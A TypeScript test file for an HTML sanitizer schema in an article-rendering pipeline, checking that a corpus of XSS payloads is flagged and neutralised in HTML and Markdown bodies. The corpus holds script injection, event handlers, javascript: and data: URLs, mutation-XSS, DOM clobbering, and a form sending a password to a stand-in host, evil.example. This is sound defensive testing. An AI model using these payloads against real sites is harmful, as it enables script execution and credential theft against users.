import type { Element } from 'hast';
import rehypeSanitize from 'rehype-sanitize';
import { visit } from 'unist-util-visit';
import { describe, expect, test } from 'vitest';
import { parseHtmlFragment } from './detect-body-format.ts';
import { renderArticleBody } from './pipeline.ts';
import { sanitizeSchema } from './sanitize-schema.ts';
import { transformHtmlToString } from './test-helpers.ts';

const sanitize = (html: string) => transformHtmlToString(html, [rehypeSanitize, sanitizeSchema]);

const xssCorpus = [
  '<script>alert(1)</script>',
  '<p onclick="alert(1)">a</p><div onmouseover="alert(1)">b</div>',
  '<img src=x onerror="alert(1)">',
  '<img src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a><a href=" JaVaScRiPt:alert(1)">y</a><a href="vbscript:x">z</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
  '<style>body{display:none}</style><p style="background:url(javascript:alert(1))">s</p>',
  '<iframe src="javascript:alert(1)"></iframe><iframe src="data:text/html,<script>alert(1)</script>"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>t</text></a></svg><svg onload="alert(1)"></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form action="https://evil.example/steal"><input type="text" name="password"><button formaction="javascript:alert(1)">go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<video src="https://a/v.mp4" autoplay onplay="alert(1)"><source src="javascript:alert(1)"></video>',
  '<h2 id="__proto__">a</h2><img name="getElementById" src="/a.png">',
];

/** Everything in rendered HTML that could run code, load a page, or escape the body. */
function findDangers(html: string): string[] {
  const dangers: string[] = [];
  visit(parseHtmlFragment(html), 'element', (node: Element) => {
    if (['script', 'style', 'form', 'input', 'button', 'meta', 'base', 'link', 'object', 'embed', 'svg', 'math'].includes(node.tagName)) {
      if (!(node.tagName === 'input' && node.properties.disabled === true && node.properties.type === 'checkbox')) dangers.push(`<${node.tagName}>`);
    }
    for (const [name, value] of Object.entries(node.properties)) {
      if (/^on/i.test(name) || name === 'style' || name === 'srcDoc' || name === 'autoPlay') dangers.push(`${node.tagName}[${name}]`);
      if (['href', 'src', 'poster', 'action', 'formAction'].includes(name) && /^\s*(javascript|vbscript|data):/i.test(String(value))) dangers.push(`${node.tagName}[${name}=${String(value)}]`);
      if ((name === 'id' || name === 'name') && !String(value).startsWith('user-content-')) dangers.push(`${node.tagName}[${name}=${String(value)}] clobbers`);
    }
    if (node.tagName === 'iframe' && !String(node.properties.src).startsWith('https://')) dangers.push('iframe without https');
  });
  return dangers;
}

describe('sanitizeSchema', () => {
  test('the corpus check flags every payload before rendering', () => {
    for (const payload of xssCorpus) expect({ payload, flagged: findDangers(payload).length > 0 }).toEqual({ payload, flagged: true });
  });

  test('neutralises every payload of the XSS corpus, in HTML and Markdown bodies', () => {
    for (const payload of xssCorpus) {
      for (const format of ['html', 'markdown'] as const) {
        const { html } = renderArticleBody(payload, { format });
        expect({ payload, format, dangers: findDangers(html) }).toEqual({ payload, format, dangers: [] });
      }
    }
  });

  test('drops script and style contents instead of printing them as text', () => {
    expect(renderArticleBody('<div><script>alert(1)</script><style>p{}</style><p>正文</p></div>').text).toBe('正文');
  });

  test('turns a form control into nothing more than a disabled checkbox', () => {
    expect(sanitize('<form action="https://evil.example"><input type="text" name="q"></form>')).toBe('<input name="user-content-q" disabled type="checkbox">');
  });

  test('keeps only the classes our plugins emit', () => {
    // A paragraph may carry rehype-mark-long-runs' class and no other (an emptied class is removed after the sanitizer).
    expect(sanitize('<p class="editor-note x">a</p><p class="long-runs x">l</p><aside class="editor-note evil">b</aside><figure class="x"><img src="/a.png"><figcaption class="y">c</figcaption></figure>')).toBe(
      '<p class="">a</p><p class="long-runs">l</p><aside class="editor-note">b</aside><figure><img src="/a.png"><figcaption>c</figcaption></figure>',
    );
  });

  test('keeps the image attributes rehype-lazy-images emits, with its values only', () => {
    expect(sanitize('<img src="https://a/1.png" alt="" width="2" height="1" loading="eager" decoding="async" fetchpriority="high" referrerpolicy="no-referrer">')).toBe(
      '<img src="https://a/1.png" alt="" width="2" height="1" loading="eager" decoding="async" fetchpriority="high" referrerpolicy="no-referrer">',
    );
    expect(sanitize('<img src="/a.png" loading="x" decoding="sync" fetchpriority="low" referrerpolicy="unsafe-url">')).toBe('<img src="/a.png">');
  });

  test('keeps the iframe and video attributes rehype-embeds emits and nothing else', () => {
    const iframe = '<iframe src="https://youtube.com/embed/x" width="640" height="360" title="t" loading="lazy" referrerpolicy="strict-origin-when-cross-origin" allowfullscreen sandbox="allow-scripts allow-presentation allow-popups allow-popups-to-escape-sandbox"></iframe>';
    expect(sanitize(iframe)).toBe(iframe);
    expect(sanitize('<iframe src="http://a/x" sandbox="allow-top-navigation allow-scripts" allow="camera"></iframe>')).toBe('<iframe sandbox="allow-scripts"></iframe>');
    // The pair that lets a same-origin frame lift its own sandbox never gets through, whatever asks for it.
    expect(sanitize('<iframe src="https://a/x" sandbox="allow-scripts allow-same-origin"></iframe>')).toBe('<iframe src="https://a/x" sandbox="allow-scripts"></iframe>');
    const video = '<video src="http://a/v.mp4" poster="https://a/p.jpg" height="360" controls preload="none"><source src="https://a/v.webm" type="video/webm"></video>';
    expect(sanitize(video)).toBe(video);
    expect(sanitize('<video src="/v.mp4" autoplay loop muted preload="auto"></video>')).toBe('<video src="/v.mp4"></video>');
  });

  test('keeps GFM tables, footnote markup and task lists', () => {
    const table = '<table><thead><tr><th align="left">a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>';
    expect(sanitize(table)).toBe(table);
    expect(sanitize('<section data-footnotes class="footnotes"><h2 class="sr-only" id="footnote-label">Footnotes</h2></section>')).toBe(
      '<section data-footnotes="" class="footnotes"><h2 class="sr-only" id="user-content-footnote-label">Footnotes</h2></section>',
    );
    expect(sanitize('<ul class="contains-task-list"><li class="task-list-item"><input type="checkbox" checked disabled> a</li></ul>')).toBe(
      '<ul class="contains-task-list"><li class="task-list-item"><input type="checkbox" checked disabled> a</li></ul>',
    );
  });
});
